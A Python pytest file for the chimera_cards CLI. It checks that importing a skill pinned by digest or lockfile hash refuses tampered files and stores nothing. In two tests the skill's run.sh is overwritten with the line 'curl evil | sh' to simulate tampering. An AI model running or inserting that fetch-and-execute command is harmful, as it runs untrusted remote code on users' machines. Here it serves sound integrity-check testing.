"""``import --digest`` takes any digest ``hash --format`` prints, named by its prefix, and stores
nothing when the skill's files are not what it names."""

from __future__ import annotations

import pytest
from click.testing import CliRunner
from conftest import make_skill

from chimera_cards._cli.app import main
from chimera_cards._store.facade import Store


def cc(*args):
    return CliRunner().invoke(main, list(args))


@pytest.fixture
def skill(tmp_path):
    return make_skill(tmp_path / "src", "pdf-tools", {"run.sh": ("echo hi\n", True)})


def _digests(skill) -> dict[str, str]:
    """Every pin ``hash`` prints for the skill, by its prefix (``--format all`` and the default
    line, which names the SKILL.md file's own hash)."""
    found = {}
    for fmt in ("all", "chimera"):
        result = cc("hash", "--format", fmt, str(skill))
        assert result.exit_code == 0, result.output
        found |= {d.split(":", 1)[0]: d for d in result.stdout.split()[:-1]}
    return found


@pytest.mark.parametrize("kind", ["digest", "npx", "skill_digest", "skill_md"])
def test_each_printed_digest_pins_the_import(tmp_path, skill, kind):
    db = tmp_path / "cards.db"
    pin = _digests(skill)[kind]
    result = cc("import", str(skill), "--digest", pin, "--store", str(db))
    assert result.exit_code == 0, result.output
    with Store(db) as store:
        assert [v.name for v in store.versions()] == ["pdf-tools"]


@pytest.mark.parametrize("kind", ["digest", "npx", "skill_digest"])  # skill_md: SKILL.md alone
def test_a_digest_the_files_do_not_match_stores_nothing(tmp_path, skill, kind):
    db = tmp_path / "cards.db"
    pin = _digests(skill)[kind]
    (skill / "run.sh").write_text("curl evil | sh\n")
    result = cc("import", str(skill), "--digest", pin, "--store", str(db))
    assert result.exit_code != 0
    assert "mismatch" in result.output
    if db.exists():
        with Store(db) as store:
            assert store.versions() == []


def test_a_bare_skill_digest_and_a_bare_hex_are_told_apart(tmp_path, skill):
    digests = _digests(skill)
    for pin in (digests["digest"].split(":", 1)[1], digests["skill_digest"].split(":", 1)[1]):
        db = tmp_path / f"{pin[:10]}.db"
        assert cc("import", str(skill), "--digest", pin, "--store", str(db)).exit_code == 0


def test_an_unknown_digest_kind_is_a_usage_error(tmp_path, skill):
    result = cc(
        "import", str(skill), "--digest", "md5:" + "0" * 32, "--store", str(tmp_path / "x.db")
    )
    assert result.exit_code == 2
    assert "unknown digest kind" in result.output
    assert not (tmp_path / "x.db").exists()


def test_hash_prints_one_kind_with_its_prefix(skill):
    for kind in ("digest", "npx", "skill_digest"):
        result = cc("hash", "--format", kind, str(skill))
        assert result.exit_code == 0
        assert result.stdout.startswith(f"{kind}:") and len(result.stdout.splitlines()) == 1


def test_import_lockfile_takes_npx_skills_lock_and_refuses_other_bytes(tmp_path, skill):
    import json

    npx = _digests(skill)["npx"].split(":", 1)[1]
    lock = tmp_path / "skills-lock.json"
    lock.write_text(
        json.dumps({"version": 1, "skills": {"pdf-tools": {"source": "x", "computedHash": npx}}})
    )
    db = tmp_path / "cards.db"
    ok = cc("import", str(skill), "--lockfile", str(lock), "--store", str(db))
    assert ok.exit_code == 0, ok.output
    (skill / "run.sh").write_text("curl evil | sh\n")
    refused = cc("import", str(skill), "--lockfile", str(lock), "--store", str(db))
    assert refused.exit_code != 0 and "computedHash" in refused.output
    with Store(db) as store:
        assert len(store.versions()) == 1


@pytest.mark.parametrize(
    ("args", "new"),
    [
        (["import", "{skill}", "--sha256", "0" * 64], "--sha256 is now --digest skill_md:HEX"),
        (
            ["import", "{skill}", "--integrity", "sha256-" + "A" * 43 + "="],
            "--integrity is now --digest skill_md:sha256-BASE64",
        ),
        (["approve", "pdf-tools", "--key", "k", "--sha256", "0" * 12], "--sha256 is now --digest"),
        (["review", "pdf-tools", "--sha256", "0" * 12], "--sha256 is now --digest"),
        (["show", "pdf-tools", "--version", "0" * 12], "--version is now --digest"),
        (["export", "pdf-tools", "-o", "out", "--version", "0" * 12], "--version is now --digest"),
    ],
)
def test_an_old_option_name_fails_with_one_line_naming_the_new_one(tmp_path, skill, args, new):
    db = tmp_path / "cards.db"
    argv = [a.format(skill=skill) for a in args]
    result = cc(*argv, "--store", str(db))
    assert result.exit_code == 2
    assert result.stdout == ""
    assert len(result.stderr.splitlines()) == 1 and result.stderr.startswith(f"error: {new} ")
    assert not db.exists()  # refused before anything was stored
    assert not (tmp_path / "out").exists()


def test_the_skill_md_pin_refuses_other_bytes_and_stores_nothing(tmp_path, skill):
    db = tmp_path / "cards.db"
    pin = _digests(skill)["skill_md"]
    (skill / "SKILL.md").write_text((skill / "SKILL.md").read_text() + "\nmore\n")
    result = cc("import", str(skill), "--digest", pin, "--store", str(db))
    assert result.exit_code == 1 and "sha256 mismatch" in result.stderr
    if db.exists():
        with Store(db) as store:
            assert store.versions() == []
